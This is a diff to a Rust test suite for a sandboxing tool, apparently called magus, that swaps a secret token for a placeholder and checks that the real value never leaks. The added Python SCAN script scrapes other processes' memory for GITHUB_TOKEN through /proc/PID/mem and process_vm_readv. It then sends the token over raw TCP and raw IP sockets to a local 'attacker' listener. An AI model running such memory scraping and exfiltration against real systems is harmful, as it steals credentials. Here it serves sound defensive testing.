@@ -29,8 +29,9 @@ struct Server {
 }
 
 const SERVER: &str = r#"
-import http.server, ssl, sys, base64
+import http.server, ssl, sys, base64, os
 cert, key, log, value = sys.argv[1:5]
+files = sys.argv[5] if len(sys.argv) > 5 else None
 class H(http.server.BaseHTTPRequestHandler):
     def handle_any(self):
         n = int(self.headers.get('Content-Length') or 0)
@@ -39,8 +40,11 @@ class H(http.server.BaseHTTPRequestHandler):
             f.write(('%s %s\n%s\n' % (self.command, self.path, self.headers)).encode() + body + b'\n----\n')
         auth = self.headers.get('Authorization') or ''
         basic = 'Basic ' + base64.b64encode(('user:' + value).encode()).decode()
-        ok = auth in ('Bearer ' + value, basic)
+        ok = auth in ('Bearer ' + value, basic, value)
         out = b'AUTH-OK\n' if ok else b'NO-AUTH\n'
+        path = os.path.join(files or '', self.path.split('?')[0].lstrip('/'))
+        if ok and files and os.path.isfile(path):
+            out = open(path, 'rb').read()
         self.send_response(200 if ok else 401)
         self.send_header('Content-Length', str(len(out)))
         self.send_header('Connection', 'close')
@@ -58,6 +62,12 @@ s.serve_forever()
 
 impl Server {
     fn start(dir: &Path, name: &str, ca: &TestCa, san: &str) -> Server {
+        Server::serving(dir, name, ca, san, None)
+    }
+
+    /// [`Server::start`], answering an authenticated request for a file
+    /// under `files` with the file.
+    fn serving(dir: &Path, name: &str, ca: &TestCa, san: &str, files: Option<&Path>) -> Server {
         let (cert, key) = ca.leaf(dir, name, san);
         let log = dir.join(format!("{name}.log"));
         std::fs::write(&log, "").unwrap();
@@ -67,6 +77,7 @@ impl Server {
             .arg(&key)
             .arg(&log)
             .arg(VALUE)
+            .args(files)
             .stdout(Stdio::piped())
             .stderr(Stdio::null())
             .spawn()
@@ -165,6 +176,11 @@ fn config(bound: u16, attacker: u16) -> String {
 /// magus's environment and the test CA as its roots.
 fn run(h: &Harness, user: User, ca: &Path) -> RunOutput {
     open_to_everyone(&h.root);
+    run_as_is(h, user, ca)
+}
+
+/// [`run`] with the harness's permissions as they are.
+fn run_as_is(h: &Harness, user: User, ca: &Path) -> RunOutput {
     let mut cmd = match user {
         User::Caller => h.command(),
         User::Nobody => h.command_as_nobody(),
@@ -285,6 +301,190 @@ fn the_bound_host_gets_the_value_and_the_spell_only_the_placeholder() {
     }
 }
 
+/// Where undici is (`.ci/run` installs it there): Node 20's own `fetch`
+/// ignores `HTTPS_PROXY`, and undici's `EnvHttpProxyAgent` as its global
+/// dispatcher is how a Node program makes it use the proxy.
+fn undici() -> Option<PathBuf> {
+    let root = std::env::var_os("MAGUS_UNDICI")
+        .map(PathBuf::from)
+        .or_else(|| std::env::var_os("HOME").map(|h| Path::new(&h).join(".cache/magus-undici")))?;
+    let module = root.join("node_modules/undici");
+    module.join("package.json").is_file().then_some(module)
+}
+
+/// Python's `requests` and Node's `fetch` authenticate to the bound host
+/// with the real value, while they only ever hold the placeholder.
+#[test]
+fn requests_and_node_fetch_authenticate_with_the_value() {
+    let module = undici().unwrap_or_else(|| {
+        panic!("undici is not installed: run .ci/run's npm line (MAGUS_UNDICI)")
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
+    let script = format!(
+        "/usr/bin/python3 -c 'import os,requests; r=requests.get(\"https://localhost:{b}/api/requests\", headers={{\"Authorization\": \"Bearer \"+os.environ[\"GITHUB_TOKEN\"]}}); print(r.text.strip(), \"requests\", os.environ[\"GITHUB_TOKEN\"][:13])'\n\
+         node -e 'const u=require(\"./node_modules/undici\"); u.setGlobalDispatcher(new u.EnvHttpProxyAgent()); fetch(\"https://localhost:{b}/api/node\", {{headers: {{Authorization: \"Bearer \"+process.env.GITHUB_TOKEN}}}}).then(r => r.text()).then(t => console.log(t.trim(), \"node\", process.env.GITHUB_TOKEN.slice(0, 13)), e => console.log(\"NODE-ERR\", e.cause || e))'\n\
+         echo END\n",
+        b = bound.port
+    );
+    for user in users() {
+        bound.clear();
+        let h = harness(&config(bound.port, attacker.port), &script);
+        std::fs::create_dir(h.ws_path("node_modules")).unwrap();
+        let copied = Command::new("cp")
+            .arg("-r")
+            .arg(&module)
+            .arg(h.ws_path("node_modules/undici"))
+            .status()
+            .unwrap();
+        assert!(copied.success(), "cp of undici");
+        let out = run(&h, user, &ca.pem);
+        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
+        for client in ["requests", "node"] {
+            assert!(
+                out.stdout
+                    .contains(&format!("AUTH-OK {client} magus-secret-")),
+                "{user:?}: {client}: {}",
+                out.dump()
+            );
+        }
+        let log = bound.log();
+        assert!(log.contains("python-requests/"), "{user:?}: {log}");
+        assert!(log.contains("/api/node"), "{user:?}: {log}");
+        assert_eq!(
+            log.matches(VALUE).count(),
+            2,
+            "{user:?}: the bound host's log: {log}"
+        );
+        assert!(!log.contains("magus-secret-"), "{user:?}: {log}");
+        assert_value_nowhere(&h, &out, user);
+        assert!(attacker.log().is_empty());
+    }
+}
+
+/// A sparse registry under `root/api/registry` holding the crate `foo`
+/// 0.1.0 (index, `.crate`, `config.json` with `auth-required`), served
+/// from the bound host at `port`.
+fn stage_registry(root: &Path, port: u16) {
+    use sha2::Digest;
+    let reg = root.join("api/registry");
+    let src = root.join("foo-0.1.0");
+    std::fs::create_dir_all(src.join("src")).unwrap();
+    std::fs::write(
+        src.join("Cargo.toml"),
+        "[package]\nname = \"foo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+    )
+    .unwrap();
+    std::fs::write(src.join("src/lib.rs"), "pub fn foo() {}\n").unwrap();
+    let dl = reg.join("dl/foo/0.1.0");
+    std::fs::create_dir_all(&dl).unwrap();
+    let made = Command::new("tar")
+        .arg("-czf")
+        .arg(dl.join("download"))
+        .arg("-C")
+        .arg(root)
+        .arg("foo-0.1.0")
+        .status()
+        .unwrap();
+    assert!(made.success(), "tar of the crate");
+    let cksum = sha2::Sha256::digest(std::fs::read(dl.join("download")).unwrap());
+    let cksum: String = cksum.iter().map(|b| format!("{b:02x}")).collect();
+    std::fs::create_dir_all(reg.join("3/f")).unwrap();
+    std::fs::write(
+        reg.join("3/f/foo"),
+        format!("{{\"name\":\"foo\",\"vers\":\"0.1.0\",\"deps\":[],\"cksum\":\"{cksum}\",\"features\":{{}},\"yanked\":false,\"v\":2}}\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        reg.join("config.json"),
+        format!("{{\"dl\":\"https://localhost:{port}/api/registry/dl\",\"auth-required\":true}}"),
+    )
+    .unwrap();
+}
+
+/// `cargo vendor` from a sparse registry on the bound host that requires
+/// the token (`auth-required`): cargo sends the placeholder, the registry
+/// gets the value, the crate is downloaded (`cargo fetch` would also ask
+/// for `rustc`, which is not in the view). cargo is the one running this
+/// test (`CARGO`), copied into the workspace: the toolchain under `/root`
+/// is outside the view (and closed to uid 65534).
+#[test]
+fn cargo_downloads_from_a_registry_that_needs_the_token() {
+    let cargo = PathBuf::from(std::env::var_os("CARGO").expect("cargo runs the tests"));
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let files = dir.path().join("files");
+    let bound = Server::serving(dir.path(), "bound", &ca, "localhost", Some(&files));
+    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
+    let b = bound.port;
+    stage_registry(&files, b);
+    let script = format!(
+        "export CARGO_HOME=\"$PWD/cargo-home\" CARGO_REGISTRIES_LOCAL_INDEX=sparse+https://localhost:{b}/api/registry/ CARGO_REGISTRIES_LOCAL_TOKEN=\"$GITHUB_TOKEN\" CARGO_NET_RETRY=0 CARGO_REGISTRIES_LOCAL_CREDENTIAL_PROVIDER=cargo:token\n\
+         cd app && \"$CARGO_BIN\" vendor --versioned-dirs >/dev/null && echo CARGO-FETCHED\n\
+         test -f \"$CARGO_HOME\"/registry/cache/*/foo-0.1.0.crate && echo CRATE-THERE\n"
+    );
+    for user in users() {
+        bound.clear();
+        let h = harness("sandbox:\n  enabled: true\n", &script);
+        // Outside the workspace (whose files children may not execute),
+        // granted read and execute.
+        let tools = h.root.join("tools");
+        std::fs::create_dir_all(&tools).unwrap();
+        std::fs::copy(&cargo, tools.join("cargo")).unwrap();
+        let cargo_in = tools.join("cargo").display().to_string();
+        std::fs::write(
+            h.ws_path("probe.sh"),
+            script.replace("\"$CARGO_BIN\"", &cargo_in),
+        )
+        .unwrap();
+        let granted = format!(
+            "sandbox:\n  enabled: true\n  allow:\n    - path: {:?}\n      mode: ro\n",
+            tools.display().to_string()
+        );
+        h.write_config(&config(b, attacker.port).replacen(
+            "sandbox:\n  enabled: true\n",
+            &granted,
+            1,
+        ));
+        std::fs::create_dir_all(h.ws_path("app/src")).unwrap();
+        std::fs::write(
+            h.ws_path("app/Cargo.toml"),
+            "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nfoo = { version = \"0.1\", registry = \"local\" }\n",
+        )
+        .unwrap();
+        std::fs::write(h.ws_path("app/src/main.rs"), "fn main() {}\n").unwrap();
+        open_to_everyone(&h.root);
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(tools.join("cargo"), std::fs::Permissions::from_mode(0o755))
+            .unwrap();
+        let out = run_as_is(&h, user, &ca.pem);
+        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
+        assert!(
+            out.stdout.contains("CARGO-FETCHED"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("CRATE-THERE"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        let log = bound.log();
+        assert!(log.contains("User-Agent: cargo"), "{user:?}: {log}");
+        assert!(
+            log.contains(&format!("Authorization: {VALUE}")),
+            "{user:?}: the registry got the token: {log}"
+        );
+        assert!(!log.contains("magus-secret-"), "{user:?}: {log}");
+        // The workspace holds cargo's caches and the crate now: none of it
+        // has the value.
+        assert_value_nowhere(&h, &out, user);
+        assert!(attacker.log().is_empty());
+    }
+}
+
 #[test]
 fn the_placeholder_goes_nowhere_else_and_rules_hold() {
     let dir = tempfile::tempdir().unwrap();
@@ -366,6 +566,189 @@ fn the_placeholder_goes_nowhere_else_and_rules_hold() {
         );
         assert_value_nowhere(&h, &out, user);
     }
+}
+
+/// Reads the memory of every process it can see (`/proc/PID/mem`, else
+/// `process_vm_readv`), itself excepted (its own text holds the needles),
+/// and counts the processes holding the value (`PLANTED`, a part of it)
+/// and the placeholder; a `sleep` child started with the same environment
+/// is the scan's own control (its stack holds the variable). Then sends
+/// the variable over a bare TCP socket and tries a raw IP socket.
+const SCAN: &str = r#"
+import os, ctypes, socket, subprocess, sys
+value = ''.join(reversed('DETNALP')).encode()
+token = os.environ.get('GITHUB_TOKEN', '').encode()
+child = subprocess.Popen(['sleep', '30'])
+libc = ctypes.CDLL(None, use_errno=True)
+class Iov(ctypes.Structure):
+    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
+def regions(pid):
+    try:
+        lines = open('/proc/%d/maps' % pid).read().splitlines()
+    except OSError:
+        return []
+    out = []
+    for line in lines:
+        a, b = [int(x, 16) for x in line.split()[0].split('-')]
+        if b - a <= 64 << 20 and 'r' in line.split()[1]:
+            out.append((a, b))
+    return out
+def read(pid, mem, a, b):
+    if mem is not None:
+        try:
+            mem.seek(a)
+            return mem.read(b - a), 'mem'
+        except (OSError, ValueError, OverflowError):
+            pass
+    buf = ctypes.create_string_buffer(b - a)
+    local, remote = Iov(ctypes.addressof(buf), b - a), Iov(a, b - a)
+    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+    return (buf.raw[:n], 'vm') if n > 0 else (b'', '')
+seen, readable, with_value, with_token = [], [], [], []
+for name in os.listdir('/proc'):
+    if not name.isdigit() or int(name) == os.getpid():
+        continue
+    pid = int(name)
+    try:
+        comm = open('/proc/%d/comm' % pid).read().strip()
+    except OSError:
+        comm = '?'
+    seen.append('%d:%s' % (pid, comm))
+    try:
+        mem = open('/proc/%d/mem' % pid, 'rb', 0)
+    except OSError:
+        mem = None
+    hows = set()
+    for a, b in regions(pid):
+        data, how = read(pid, mem, a, b)
+        if data:
+            hows.add(how)
+            if value in data:
+                with_value.append('%d:%s' % (pid, comm))
+            if token and token in data:
+                with_token.append('%d:%s' % (pid, comm))
+    if hows:
+        readable.append('%d:%s:%s' % (pid, comm, '+'.join(sorted(hows))))
+child.kill()
+print('SEEN', ' '.join(seen))
+print('READABLE', ' '.join(readable))
+print('WITH-TOKEN', len(set(with_token)))
+print('WITH-VALUE', len(set(with_value)), ' '.join(sorted(set(with_value))))
+port = int(sys.argv[1])
+try:
+    s = socket.create_connection(('127.0.0.1', port), timeout=3)
+    s.sendall(b'RAW ' + token + b'\n')
+    s.close()
+    print('TCP-SENT')
+except OSError as e:
+    print('TCP-FAILED', e.errno)
+try:
+    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    r.sendto(b'\0' * 8 + b'RAW ' + token, ('127.0.0.1', port))
+    print('RAW-SENT')
+except OSError as e:
+    print('RAW-FAILED', e.errno)
+"#;
+
+/// A plain TCP listener that keeps every byte it is sent.
+fn raw_listener() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<u8>>>) {
+    use std::io::Read;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let keep = std::sync::Arc::clone(&got);
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut buf = Vec::new();
+            let _ = stream.read_to_end(&mut buf);
+            keep.lock().unwrap().extend_from_slice(&buf);
+        }
+    });
+    (port, got)
+}
+
+/// From inside the jail, no process whose memory a child can read (by
+/// `/proc/PID/mem` or `process_vm_readv`) holds a byte of the value
+/// (magus proper forgot it; the proxy is outside the jail's PID
+/// namespace), and the placeholder sent over a bare socket to the
+/// attacker reaches nothing. The control, the sandbox off with the value
+/// in the environment: the same scan finds it and the attacker gets it.
+#[test]
+fn memory_reads_and_raw_sockets_get_nothing_of_the_value() {
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new(dir.path());
+    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
+    let (port, got) = raw_listener();
+    let script = format!("/usr/bin/python3 scan.py {port}\necho END\n");
+    for user in users() {
+        got.lock().unwrap().clear();
+        let h = harness(&config(bound.port, port), &script);
+        std::fs::write(h.ws_path("scan.py"), SCAN).unwrap();
+        let out = run(&h, user, &ca.pem);
+        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
+        // The scan works in the jail: it reads its child's memory and
+        // finds the placeholder there.
+        assert!(
+            out.stdout.contains("WITH-TOKEN ") && !out.stdout.contains("WITH-TOKEN 0"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("WITH-VALUE 0 \n") || out.stdout.contains("WITH-VALUE 0\n"),
+            "{user:?}: the value in a readable process: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("TCP-FAILED"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            out.stdout.contains("RAW-FAILED"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        assert!(
+            got.lock().unwrap().is_empty(),
+            "{user:?}: the attacker got bytes"
+        );
+        assert_value_nowhere(&h, &out, user);
+        // magus proper (the jail's PID 1) was among the processes tried,
+        // and, not dumpable, gave nothing; the proxy is not in the jail's
+        // PID namespace at all.
+        let line = |tag: &str| {
+            out.stdout
+                .lines()
+                .find(|l| l.starts_with(tag))
+                .unwrap_or("")
+                .to_string()
+        };
+        assert!(line("SEEN ").contains(" 1:"), "{user:?}: {}", out.dump());
+        assert!(
+            !line("READABLE").contains(" 1:"),
+            "{user:?}: {}",
+            out.dump()
+        );
+        eprintln!("{user:?}: {} | {}", line("SEEN "), line("READABLE"));
+    }
+    // The control.
+    let h = harness("sandbox:\n  enabled: false\n", &script);
+    std::fs::write(h.ws_path("scan.py"), SCAN).unwrap();
+    let mut cmd = h.command();
+    cmd.env("GITHUB_TOKEN", VALUE)
+        .arg("--workspace")
+        .arg(&h.ws)
+        .args(["run", "probe"]);
+    let out = capture(&mut cmd);
+    assert_eq!(out.status, Some(0), "control: {}", out.dump());
+    assert!(
+        !out.stdout.contains("WITH-VALUE 0"),
+        "control: the scan finds the value: {}",
+        out.dump()
+    );
+    assert!(out.stdout.contains("TCP-SENT"), "control: {}", out.dump());
+    let sent = String::from_utf8_lossy(&got.lock().unwrap()).to_string();
+    assert!(sent.contains(VALUE), "control: the attacker got: {sent}");
 }
 
 /// The control: without magus's secrets (the sandbox off, the token in
